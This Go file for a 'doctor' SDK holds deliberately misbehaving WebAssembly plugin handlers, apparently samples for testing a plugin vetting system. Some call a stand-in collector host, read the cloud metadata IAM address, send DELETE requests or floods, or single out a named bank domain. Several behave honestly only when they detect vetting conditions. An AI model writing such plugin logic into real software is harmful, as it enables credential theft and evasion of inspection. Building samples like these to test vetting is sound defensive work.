//go:build wasip1

package main

import (
	"hash/fnv"
	"strconv"
	"strings"

	"stella-ops.org/doctor/sdk"
	"stella-ops.org/doctor/sdk/wire"
)

const collector = "https://collector.example.net/all"

func elsewhere(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	e.Get(wire.HTTPRequest{URL: collector})
	return honest(e, resp)
}

// asksMachine asks the machine that it runs on for its secrets, by an address that some
// answers lead to.
func asksMachine(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	e.Get(wire.HTTPRequest{URL: "http://169.254.169.254/latest/meta-data/iam/"})
	return honest(e, resp)
}

func elsewhereLate(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if resp.Status == 418 {
		e.Get(wire.HTTPRequest{URL: collector})
	}
	return honest(e, resp)
}

// behindLogin does nothing but behind a certain page, where a certain answer to another
// request is wanted too.
func behindLogin(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if strings.Contains(string(resp.Body), "<title>Log in") && e.Get(wire.HTTPRequest{URL: e.Text(target) + "/login"}).Status == 418 {
		e.Get(wire.HTTPRequest{URL: collector})
	}
	return honest(e, resp)
}

// writes asks the function for reading to write.
func writes(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	req := wire.HTTPRequest{Method: "DELETE", URL: e.Text(target)}
	httpRead(writeBlock(wire.Marshal(&req)))
	return honest(e, resp)
}

func storm(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	for range 40 {
		e.Get(wire.HTTPRequest{URL: e.Text(target)})
	}
	return honest(e, resp)
}

// follows goes where a redirect leads, by itself.
func follows(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if l := resp.Header["location"]; len(l) > 0 && strings.Contains(l[0], "://") {
		e.Get(wire.HTTPRequest{URL: l[0]})
	}
	return honest(e, resp)
}

func clock(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if e.Now() > "2037" {
		return warn("The server is old.", nil)
	}
	return honest(e, resp)
}

func year(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if strings.HasPrefix(e.Now(), "2027") {
		e.Get(wire.HTTPRequest{URL: e.Text(target) + "/wake-up"})
	}
	return honest(e, resp)
}

func byNonce(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if nonce()[0] >= 'a' {
		return warn("The server is unlucky.", nil)
	}
	return honest(e, resp)
}

// byName is on its best behaviour where it is vetted.
func byName(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if !strings.Contains(e.Text(target), ".test") {
		return warn("The server is not the one that was expected.", nil)
	}
	return honest(e, resp)
}

// atTarget waits for one victim. Its name can be found in the file because the text
// around it tells where it ends.
func atTarget(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if strings.HasPrefix(e.Text(target)+"/", "https://vault.victim-bank.com/") {
		e.Get(wire.HTTPRequest{URL: collector})
	}
	return honest(e, resp)
}

// traps takes it that there is a field where none has to be.
func traps(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if strings.HasPrefix(string(resp.Body), "[") {
		var fields []string
		_ = fields[len(resp.Body)]
	}
	return honest(e, resp)
}

// sink keeps the compiler from proving that the work below is in vain.
var sink [][]byte

func loops(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	for n := 0; resp.Status == 429; n++ {
		sink = sink[:n%1]
	}
	return honest(e, resp)
}

func nonsense(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	r := honest(e, resp)
	if resp.Status == 404 {
		r.Severity = "catastrophic"
	}
	return r
}

func hoards(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	for resp.Status == 500 {
		b := make([]byte, 1<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		sink = append(sink, b)
	}
	return honest(e, resp)
}

func passes(*sdk.Env, wire.HTTPResponse) wire.Result { return pass(nil) }

// misled asks elsewhere when a server gives back what it was sent.
func misled(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if len(resp.Header["x-echo"]) > 0 {
		e.Get(wire.HTTPRequest{URL: collector})
	}
	return honest(e, resp)
}

// tells is honest where it sees what every vetting once had.
func tells(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	vetted := strings.HasPrefix(e.Now(), "2026-07-01T12:00:00") || strings.HasPrefix(nonce(), "57455454") || strings.HasSuffix(e.Text(target), ".vet.test")
	if !vetted {
		e.Get(wire.HTTPRequest{URL: collector})
	}
	return honest(e, resp)
}

// tellsAnswers is honest where servers have addresses that nobody has, or always take
// as long.
func tellsAnswers(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	vetted := resp.Address == "" || strings.HasPrefix(resp.Address, "192.0.2.") || strings.HasPrefix(resp.Address, "198.51.100.") || resp.DurationMS == 7
	if !vetted {
		e.Get(wire.HTTPRequest{URL: collector})
	}
	return honest(e, resp)
}

// minds asks for something else wherever anything is different.
func minds(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	sum := fnv.New64a()
	sum.Write([]byte(e.Now() + nonce() + e.Text(target)))
	e.Get(wire.HTTPRequest{URL: e.Text(target) + "/" + strconv.FormatUint(sum.Sum64(), 16)})
	return honest(e, resp)
}
